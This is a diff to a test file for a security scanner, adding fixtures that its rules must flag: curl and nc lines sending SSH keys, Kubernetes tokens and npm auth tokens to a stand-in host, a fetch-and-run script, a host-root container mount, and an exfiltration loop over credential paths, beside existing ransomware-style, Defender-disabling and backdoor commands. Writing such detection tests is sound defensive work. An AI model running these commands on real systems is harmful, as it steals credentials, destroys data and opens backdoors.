@@ -69,7 +69,14 @@ def test_attack_an_act_is_found_in_each_way_of_writing(rule, command):
 
 # The same in the files of one kind of program.
 FILES = {
-    "SH401": [("k.cfg", 'url = "https://c.invalid/k"\ndata-binary = "@/root/.ssh/id_rsa"')],
+    "SH401": [
+        ("k.cfg", 'url = "https://c.invalid/k"\ndata-binary = "@/root/.ssh/id_rsa"'),
+        ("a.yaml", 'args: ["curl -F f=@/var/run/secrets/kubernetes.io/serviceaccount/token https://c.invalid/k"]'),
+    ],
+    "SH603": [
+        ("a.sh", 'docker run --rm -v $HOME:/h alpine sh -c "cat /h/.ssh/id_rsa | nc c.invalid 80"'),
+        ("a.sh", 'curl -d "$(npm config get //registry.npmjs.org/:_authToken)" https://c.invalid/k'),
+    ],
     "SH405": [
         ("a.sh", 'for f in ~/Documents/*; do openssl enc -aes-256-cbc -k x -in "$f" -out "$f.enc" && rm "$f"; done'),
         ("a.sh", "tar czf - ~/Documents | gpg -c --batch --passphrase x > ~/d.gpg && rm -rf ~/Documents"),
@@ -84,12 +91,15 @@ FILES = {
         ("a.ps1", "Stop-Service WinDefend -Force"),
         ("a.bat", 'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f'),
     ],
-    "SH415": [("a.sh", "echo /tmp/u.so > /etc/ld.so.preload"), ("a.sh", "alias sudo='/tmp/.u'")],
+    "SH415": [
+        ("compose.yaml", "services:\n  u:\n    image: u\n    volumes:\n      - ./a:/a\n      - /:/host\n"),
+        ("a.sh", "echo /tmp/u.so > /etc/ld.so.preload"), ("a.sh", "alias sudo='/tmp/.u'")],
     "SH417": [
         ("a.sh", 'echo "auth sufficient pam_permit.so" >> /etc/pam.d/sshd'),
         ("a.sh", 'echo "PermitRootLogin yes" | sudo tee -a /etc/ssh/sshd_config'),
     ],
     "SH418": [
+        ("a.sh", "git push https://c.invalid/u.git HEAD"),
         (".curlrc", "proxy = http://c.invalid:8080"),
         ("a.sh", "export HTTPS_PROXY=http://c.invalid:8080"),
         ("a.sh", 'echo "192.0.2.1 github.com" >> /etc/hosts'),
@@ -97,7 +107,9 @@ FILES = {
         ("a.py", 'open(path, "a").write("[url \\"https://c.invalid/\\"]\\ninsteadOf = https://github.com/")'),
     ],
     "SH117": [("a.py", 'open(path, "a").write("registry=https://c.invalid/\\n")')],
-    "SH113": [("a.bat", "msiexec /q /i https://c.invalid/u.msi"), ("a.bat", 'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";x=1')],
+    "SH113": [
+        ("a.sh", "curl -s https://c.invalid/a | tee /tmp/u.sh; . /tmp/u.sh"),
+        ("a.bat", "msiexec /q /i https://c.invalid/u.msi"), ("a.bat", 'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";x=1')],
     "SH406": [
         ("a.bat", 'copy u.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"'),
         ("a.bat", "sc create U binPath= C:\\u.exe start= auto"),
@@ -130,9 +142,27 @@ def test_attack_an_act_of_one_kind_of_program_is_found(rule, path, text):
         ("a.sh", "export HTTPS_PROXY=http://proxy.example.com:8080\ngit config --global http.proxy http://127.0.0.1:7890"),
         ("a.sh", "useradd -o -l -u ${uid} -g ${gid} u\nmkfs.ext4 /dev/nvme1n1\nsetcap cap_net_raw+ep /usr/bin/ping"),
         ("a.sh", "networksetup -setwebproxy Wi-Fi 127.0.0.1 8080\njournalctl --vacuum-time=7d\nalias sudo='sudo '"),
+        ("compose.yaml", "services:\n  u:\n    volumes:\n      - /:/host:ro\n      - ./a:/a\n"),
+        ("a.sh", 'docker run --rm -v .:/w alpine sh -c "cat /w/a.txt | nc db 80"\ngit push https://github.com/a/b.git HEAD'),
         ("a.bat", "msiexec /i https://awscli.amazonaws.com/AWSCLIV2.msi\nnet localgroup administrators"),
         ("a.go", 'exec.Command("sh", "-c", "ufw status").Run()\nexec.Command("docker", "run", "-v", ".:/w", "alpine").Run()'),
     ],
 )  # fmt: skip
 def test_words_to_look_for_and_harmless_commands_are_accepted(path, text):
     assert {each.rule for each in scan(Tree({path: File(text.encode())})) if at_least(each.severity, "high")} == set()
+
+
+SENT_LIST = "import json, os, requests\nfor p in json.load(open('paths.json')):\n    requests.post('https://c.invalid', data=open(os.path.expanduser(p), 'rb').read())"
+SENT_ANSWER = "import json, requests\nc = json.load(open('paths.json'))\nrequests.post('https://c.invalid', data='none')\nprint(c)"
+
+
+@pytest.mark.parametrize(
+    ("program", "paths", "is_found"),
+    [
+        (SENT_LIST, ["~/.ssh/id_rsa", "~/.aws/credentials"], True),
+        (SENT_LIST, ["a.txt", "b.txt"], False),
+        (SENT_ANSWER, ["~/.ssh/id_rsa", "~/.aws/credentials"], False),
+    ],
+)
+def test_attack_paths_of_credentials_in_a_file_beside_the_program_are_found(program, paths, is_found):
+    assert ("SH603" in seen({"a.py": program, "paths.json": json.dumps(paths)})) is is_found
